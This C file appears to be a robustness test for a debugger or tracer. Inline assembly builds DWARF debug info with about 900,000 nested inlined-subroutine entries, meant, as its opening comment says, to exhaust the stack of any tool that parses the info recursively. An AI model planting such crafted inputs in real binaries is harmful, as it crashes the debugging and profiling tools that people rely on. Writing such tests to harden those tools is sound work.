// Attempts: to end the engine that looks for the lines of calls. Functions that were put into functions, a million
// deep: whoever follows them by calling itself has no stack left.
#include <stdio.h>
#include <sys/socket.h>

asm(".section .debug_abbrev,\"\",@progbits\n"
    ".Ldeep_abbrev:\n"
    ".uleb128 1; .uleb128 0x11; .byte 1\n" // DW_TAG_compile_unit, with children
    ".uleb128 0x11; .uleb128 0x01; .uleb128 0x12; .uleb128 0x07; .uleb128 0; .uleb128 0\n"
    ".uleb128 2; .uleb128 0x2e; .byte 1\n" // DW_TAG_subprogram: DW_AT_low_pc, DW_AT_high_pc
    ".uleb128 0x11; .uleb128 0x01; .uleb128 0x12; .uleb128 0x07; .uleb128 0; .uleb128 0\n"
    ".uleb128 3; .uleb128 0x1d; .byte 1; .uleb128 0; .uleb128 0\n" // DW_TAG_inlined_subroutine
    ".uleb128 0\n"
    ".section .debug_info,\"\",@progbits\n"
    ".long .Ldeep_end - .Ldeep_begin\n"
    ".Ldeep_begin: .short 4; .long .Ldeep_abbrev; .byte 8\n"
    ".uleb128 1; .quad main + 4; .quad 64\n"
    ".uleb128 2; .quad main + 4; .quad 64\n"
    ".fill 900000, 1, 3\n"
    ".Ldeep_end:\n"
    ".text\n");

int main(void) {
    puts("ready");
    fflush(stdout);
    socket(AF_UNIX, SOCK_STREAM, 0);
    puts("done");
}
